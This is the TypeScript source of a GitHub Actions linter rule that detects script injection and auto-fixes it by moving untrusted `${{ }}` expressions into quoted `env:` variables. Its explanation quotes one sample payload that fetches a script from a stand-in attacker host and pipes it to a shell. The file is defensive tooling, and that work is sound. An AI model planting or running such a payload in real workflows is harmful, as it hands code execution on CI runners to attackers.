import { TokenType } from '@actions/expressions/lexer'
import { isMap, isScalar, type Node } from 'yaml'
import { safeInShell } from '../../shell/safe-replacement.ts'
import { scriptOf } from '../../shell/script.ts'
import { wordSet } from '../../wire/words.ts'
import { expressionSpans } from '../../workflow/expressions.ts'
import { expressionTokens } from '../../workflow/file-expressions.ts'
import { childOf, entriesOf, type Place } from '../../workflow/nodes.ts'
import type { Operation } from '../../workflow/operations.ts'
import { singleQuoted } from '../../workflow/spans.ts'
import { pairKey, pairsOf } from '../../workflow/yaml.ts'
import type { JobFlow, StepFlow } from '../flow/data-flow.ts'
import type { Rule, RuleFile } from '../rule.ts'
import type { UntrustedFinding } from '../untrusted.ts'
import { greet } from './example-workflows.ts'

export const scriptInjection: Rule = {
  id: 'script-injection',
  level: 'strict',
  page: {
    title: 'untrusted input that is executed, or that chooses what is executed',
    reason:
      'GitHub replaces `${{ }}` in a script before the shell reads it, so the sender of an event can write a part of the script: `"; curl evil.example | sh; "`. The same happens to a variable in a second interpreter (`ssh host "deploy $NAME"`, `sh -c`, `xargs`, `psql -c`, `eval`, `os.system`), to a program from standard input, and to a line in `$GITHUB_ENV` or `$GITHUB_PATH`.',
    remedy:
      'Set a variable under `env:`, and use it in quotes. Pass it to another program as an argument (`bash -c \'…"$1"\' _ "$NAME"`) or as data. Values that a condition compares with fixed strings, or that a shell script checks with an anchored regular expression, are not reported. The same holds for a group of letters, digits and the like that github-script reads from a match, and for the branch of a pull request if a condition compares `github.event.pull_request.head.repo.full_name`. Neither is a field of an event, such as `github.event.comment.body`, if no event under `on:` has it. `--fix` sets the variable if the script then certainly does the same.',
    before: `- run: echo "\${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}"`,
    after: `- env:
    NAME: \${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}
  run: echo "$NAME"`,
    workflow: greet,
  },
  check: (file) =>
    file.untrusted.map(({ problem }) => problem).filter(({ code }) => code === 'script-injection'),
  fix: fixScripts,
}

/** Moves untrusted input from scripts of the file into `env:`. */
function fixScripts(file: RuleFile): Operation[] {
  const scripts = new Map<Node, UntrustedFinding[]>()
  for (const finding of file.untrusted) {
    const { text, isExpression, step, source } = finding
    const isShared = text.isShared || step?.place.isShared !== false
    if (!isExpression || isShared || source !== file.file.source) continue
    scripts.set(text.node, [...(scripts.get(text.node) ?? []), finding])
  }
  return [...scripts.values()].flatMap(fixScript)
}

/** @param findings all findings of one script */
function fixScript(findings: readonly UntrustedFinding[]): Operation[] {
  const [first] = findings
  if (first?.key !== 'run' || first.step?.shell !== 'posix') return []
  const { text, step, job } = first
  const { value } = text.node
  const script = scriptOf(value, expressionSpans(value))
  const names = new VariableNames(job, step, script.text)
  const found = new Set(findings.map(({ at }) => at.start - '${{'.length))
  const edits = safeInShell(script).flatMap((replace, at) => {
    const placeholder = script.placeholders[at]
    if (!replace || !placeholder || !found.has(placeholder.braces.start)) return []
    const { braces, expression } = placeholder
    return [{ ...braces, text: replace(names.of(expression.trim())) }]
  })
  if (edits.length === 0) return []
  const { variables } = names
  const env = variables.length > 0 ? envOperation(step.place, variables) : undefined
  if (variables.length > 0 && !env) return []
  return [{ op: 'rewriteText', path: text.path, edits }, ...(env ? [env] : [])]
}

/** A variable that the step gets. */
interface StepVariable {
  readonly name: string
  /** The inside of `${{ }}`. */
  readonly expression: string
}

/** Words that do not describe a value. */
const GENERIC = wordSet('on outputs github event tojson fromjson format join')

/** Names for the variables of a step: one for each value, and none that is in use. */
class VariableNames {
  readonly #names = new Map<string, string>()
  /** The variables that the step already has, by their names in lower case. */
  readonly #declared: ReadonlyMap<string, string>
  readonly #taken: Set<string>

  constructor(job: JobFlow, step: StepFlow, script: string) {
    const env = [job.top, job.place, step.place].flatMap((place) =>
      entriesOf(childOf(place, 'env')),
    )
    this.#declared = new Map(env.map(({ name }) => [name.toLowerCase(), name]))
    this.#taken = new Set([...env.map(({ name }) => name), ...(script.match(/\w+/g) ?? [])])
  }

  get variables(): StepVariable[] {
    return [...this.#names].map(([expression, name]) => ({ name, expression }))
  }

  /** `on.webhook.outputs.body.title` → `WEBHOOK_BODY_TITLE`. */
  of(expression: string): string {
    // A value of the context `env` already is a variable of the step.
    const [, own = ''] = /^env\.([\w-]+)$/i.exec(expression) ?? []
    const declared = this.#declared.get(own.toLowerCase())
    if (declared !== undefined) return declared
    const name =
      this.#names.get(expression) ?? this.#free(wordsOf(expression).join('_').slice(0, 60))
    this.#names.set(expression, name)
    this.#taken.add(name)
    return name
  }

  #free(name: string): string {
    for (let count = 1; ; count++) {
      const candidate = count === 1 ? name : `${name}_${count}`
      if (!this.#taken.has(candidate)) return candidate
    }
  }
}

function wordsOf(expression: string): string[] {
  const words = expressionTokens(expression)
    .filter(({ type }) => type === TokenType.IDENTIFIER || type === TokenType.STRING)
    .map(({ lexeme }) => lexeme.replaceAll(/[^A-Za-z0-9]+/g, '_').replaceAll(/^_+|_+$/g, ''))
    .filter((word) => word !== '' && !GENERIC.has(word.toLowerCase()))
    .slice(0, 4)
    .map((word) => word.toUpperCase())
  // Without a first word of its own, the name could be PATH or GIT_DIR.
  return words[0] === 'WEBHOOK' || words[0] === 'NEEDS' || words[0] === 'STEPS'
    ? words
    : ['EVENT', ...words]
}

/**
 * Adds variables to the `env:` of a step, or adds an `env:` after its script.
 *
 * @returns `undefined` for a step in braces, and for an `env:` that is an expression or an alias
 */
function envOperation(step: Place, variables: readonly StepVariable[]): Operation | undefined {
  if (!isMap(step.node) || step.node.flow) return undefined
  const names = pairsOf(step.node).map(pairKey)
  const script = names.findLast((name) => ['run', 'with'].includes(name))
  const env = childOf(step, 'env')
  if (script === undefined) return undefined
  if (env) {
    const isEmpty = env.node === null || (isScalar(env.node) && env.node.value === null)
    if (env.isShared || !(isEmpty || isMap(env.node))) return undefined
  }
  const lines = variables.map(({ name, expression }) => {
    const value = template(expression)
    return `${name}: ${/: | #/.test(value) ? singleQuoted(value) : value}`
  })
  return {
    op: 'insert',
    path: [...step.path, 'env'],
    lines,
    where: 'first',
    parent: { after: script },
  }
}

function template(expression: string): string {
  return `\${{ ${expression.replaceAll(/\s*[\r\n]\s*/g, ' ')} }}`
}
